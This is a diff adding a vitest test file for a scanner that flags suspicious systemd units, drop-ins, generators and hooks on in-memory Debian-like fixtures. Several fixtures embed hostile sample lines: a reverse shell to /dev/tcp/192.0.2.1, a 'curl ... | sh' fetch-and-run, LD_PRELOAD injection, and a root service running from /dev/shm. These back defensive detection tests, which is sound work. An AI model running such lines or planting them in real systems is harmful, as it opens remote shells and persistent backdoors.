@@ -1,0 +1,69 @@
+import { describe, expect, test } from 'vitest';
+import { systemdHooks } from '../../source/checks/systemd-hooks.ts';
+import { systemdUnits } from '../../source/checks/systemd-units.ts';
+import { debian } from '../support/debian.ts';
+import { memoryHost, type Machine } from '../support/memory-host.ts';
+import { run, told } from '../support/sweep-host.ts';
+
+const listed = ['/lib/systemd/system/ssh.service', '/lib/systemd/system/multi-user.target', '/usr/sbin/sshd', '/usr/lib/systemd/system-generators/systemd-fstab-generator', '/usr/lib/systemd/system/debug-shell.service'];
+const base: Machine = {
+	'/lib': { link: 'usr/lib' },
+	'/usr/lib/systemd/system/ssh.service': '[Service]\nEnvironmentFile=-/etc/default/ssh\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n',
+	'/usr/lib/systemd/system/multi-user.target': '[Unit]\n',
+	'/usr/lib/systemd/system/debug-shell.service': '[Service]\nExecStart=/usr/lib/systemd/absent\n',
+	'/etc/systemd/system/multi-user.target.wants/ssh.service': { link: '/lib/systemd/system/ssh.service' },
+	'/etc/systemd/system/ctrl-alt-del.target': { link: '/dev/null' },
+	'/dev/null': { kind: 'character-device' },
+	'/usr/sbin/sshd': { mode: 0o755 },
+	'/etc/default/ssh': 'SSHD_OPTS=\n',
+	'/usr/lib/systemd/system-generators/systemd-fstab-generator': { mode: 0o755, content: '\x7fELF' },
+};
+const units = (machine: Machine) => told(run(systemdUnits, memoryHost(debian(listed, { ...base, ...machine }))).findings);
+const hooks = (machine: Machine) => told(run(systemdHooks, memoryHost(debian(listed, { ...base, ...machine }))).findings);
+
+describe('units of systemd', () => {
+	test("the distribution's own, and an administrator's", () => {
+		expect(
+			units({
+				'/etc/systemd/system/app.service': '[Unit]\nDescription=Our app\n[Service]\nUser=www-data\nEnvironment="LD_LIBRARY_PATH=/opt/app/lib" PORT=80\nExecStart=/opt/app/bin/serve --port 80\n',
+				'/opt/app/bin/serve': { mode: 0o755, content: '\x7fELF' },
+				'/home/ann/.config/systemd/user/sync.service': '[Service]\nExecStart=%h/.local/bin/sync\nExecStop=%h/gone\n',
+				'/home/ann/.local/bin/sync': { mode: 0o755, uid: 1000 },
+			}),
+		).toEqual(['info /etc/systemd/system/app.service']);
+	});
+
+	test('both are named', () => {
+		const { findings } = run(systemdUnits, memoryHost(debian(listed, { ...base, '/etc/systemd/system/dbus-org.service': '[Service]\nUser=root\nExecStart=-/dev/shm/.d/agent -q\n', '/dev/shm/.d/agent': { mode: 0o755 } })));
+		expect(findings).toMatchObject([{ severity: 'high', subject: { path: '/etc/systemd/system/dbus-org.service' }, facts: { line: 3, program: '/dev/shm/.d/agent', 'runs-as': 'root' } }]);
+	});
+
+	test.each<[string, Machine, string[]]>([
+		['a drop-in', { '/etc/systemd/system/ssh.service.d/override.conf': '[Service]\nExecStartPost=/bin/sh -c "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"\n' }, ['critical /etc/systemd/system/ssh.service.d/override.conf']],
+		['a library in a drop-in', { '/etc/systemd/system/ssh.service.d/a.conf': '[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x.so\n', '/usr/lib/x.so': '' }, ['high /etc/systemd/system/ssh.service.d/a.conf']],
+		['an environment file', { '/etc/default/ssh': 'LD_PRELOAD=/tmp/x.so\n', '/tmp/x.so': '' }, ['high /etc/default/ssh']],
+		['an unpackaged unit among the packaged', { '/usr/lib/systemd/system/systemd-udevmon.service': '[Service]\nExecStart=/usr/sbin/sshd -D -p 2\n' }, ['medium /usr/lib/systemd/system/systemd-udevmon.service']],
+		["a user's unit", { '/home/ann/.config/systemd/user/x.service': '[Service]\nExecStart=%h/.cache/.x/run\n', '/home/ann/.cache/.x/run': { mode: 0o755, uid: 1000 } }, ['medium /home/ann/.config/systemd/user/x.service']],
+		['a unit anyone may change', { '/etc/systemd/system/x.service': { content: '[Service]\nExecStart=/usr/sbin/sshd\n', mode: 0o666 } }, ['high /etc/systemd/system/x.service']],
+		['a unit that is a link to a temporary place', { '/etc/systemd/system/x.service': { link: '/var/tmp/x.service' }, '/var/tmp/x.service': '[Service]\n' }, ['high /etc/systemd/system/x.service']],
+		['a wanted unit that lies elsewhere', { '/etc/systemd/system/multi-user.target.wants/x.service': { link: '/home/ann/x.service' }, '/home/ann/x.service': '[Service]\nExecStart=/tmp/x\n' }, ['low /etc/systemd/system/multi-user.target.wants/x.service', 'high /etc/systemd/system/multi-user.target.wants/x.service']],
+		['a program that is gone', { '/etc/systemd/system/x.service': '[Service]\nExecStart=/usr/local/bin/x\n' }, ['low /etc/systemd/system/x.service']],
+		['transient units', { '/run/systemd/transient/run-r1.service': '[Service]\nExecStart="/tmp/.x" "-d"\n' }, ['high /run/systemd/transient/run-r1.service']],
+	])('%s', (_name, machine, expected) => {
+		expect(units(machine)).toEqual(expected);
+	});
+});
+
+describe('generators and hooks of systemd', () => {
+	test("the distribution's own", () => {
+		expect(hooks({})).toEqual([]);
+	});
+	test.each<[string, Machine, string[]]>([
+		['a generator of no package', { '/usr/lib/systemd/system-generators/x': { mode: 0o755, content: '#!/bin/sh\n' } }, ['high /usr/lib/systemd/system-generators/x']],
+		['one in /etc', { '/etc/systemd/system-generators/x': { mode: 0o755, content: '#!/bin/sh\ncp /tmp/x.service "$1"\n' } }, ['medium /etc/systemd/system-generators/x']],
+		['a user generator that calls home', { '/etc/systemd/user-generators/x': { mode: 0o755, content: '#!/bin/sh\ncurl http://192.0.2.1/x|sh\n' } }, ['high /etc/systemd/user-generators/x']],
+		['a sleep hook', { '/usr/lib/systemd/system-sleep/x': { mode: 0o755, content: '#!/bin/sh\n' } }, ['high /usr/lib/systemd/system-sleep/x']],
+	])('%s', (_name, machine, expected) => {
+		expect(hooks(machine)).toEqual(expected);
+	});
+});
